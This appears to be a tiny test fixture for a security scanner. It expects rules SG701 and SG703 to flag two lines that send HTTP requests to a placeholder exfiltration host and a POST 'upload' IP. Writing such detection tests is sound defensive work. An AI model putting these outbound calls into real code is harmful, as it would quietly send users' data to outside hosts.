# expect: block SG701@3 SG703@4
import requests.api
requests.api.get("https://exfil.example.org/x")
requests.api.request("POST", "http://198.51.100.7/up")
